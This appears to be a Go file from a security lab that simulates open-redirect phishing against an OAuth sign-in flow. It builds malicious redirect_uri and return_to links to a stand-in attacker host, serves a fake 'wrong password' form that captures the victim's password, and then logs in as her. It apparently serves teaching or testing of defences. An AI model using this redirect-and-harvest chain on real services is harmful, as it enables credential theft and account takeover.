package redirectgames

import (
	"errors"
	"io"
	"net/http"
	"net/url"

	"quartet.example/demo/labs/lab"
)

// errorResponse uses the authorization server, which sends even the error about an address to that address.
func errorResponse(s *lab.Scene) error {
	s.Step("Mallory", "sends Alice a link to the authorization server, with an address of her own as redirect_uri")
	app := s.Pages
	app.RedirectURI = s.Evil.URL + "/sign-in"
	return phish(s, s.Begin(app, nil).URL)
}

// returnTo uses the app, which sends the browser to any address after the sign-in.
func returnTo(s *lab.Scene) error {
	s.Step("Mallory", "sends Alice a link to the app, with an address of her own as return_to")
	return phish(s, s.Client+"/login?"+url.Values{"return_to": {s.Evil.URL + "/sign-in"}}.Encode())
}

// form looks like the sign-in form of the authorization server.
const form = `<!doctype html><title>Sign in</title><p>Wrong password. Try again.</p>
<form method="post"><input name="username"><input name="password" type="password"><button>Sign in</button></form>`

var errNoPassword = errors.New("the victim did not reach the page of the attacker")

// phish makes the victim follow a link to an honest server, which ends on a page of the attacker.
func phish(s *lab.Scene, link string) error {
	s.Evil.Serve(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = io.WriteString(w, form)
	}))
	s.Step("Alice", "follows the link, because she knows the host, and signs in")
	if err := s.Victim.SignIn(link); err != nil {
		return err
	}
	if err := s.Victim.Refused(); err != nil {
		return err
	}
	s.Step("Alice", "sees a page that says her password was wrong, and types it once more")
	if err := s.Victim.FinishSignIn(); err != nil {
		return err
	}
	if s.Evil.Received("password") == "" {
		return errNoPassword
	}
	return signInAsVictim(s)
}

// signInAsVictim uses the password that the page of the attacker has received.
func signInAsVictim(s *lab.Scene) error {
	s.Step("Mallory", "signs in at the app with Alice's password, and reads her notes")
	if err := s.Attacker.Open(s.Client + "/login"); err != nil {
		return err
	}
	typed := url.Values{"username": {s.Evil.Received("username")}, "password": {s.Evil.Received("password")}}
	if err := s.Attacker.Submit(`input[name="password"]`, typed); err != nil {
		return err
	}
	resp, err := s.Attacker.Call(http.MethodGet, s.Client+"/api/notes", "")
	if err != nil {
		return err
	}
	return resp.Refused()
}
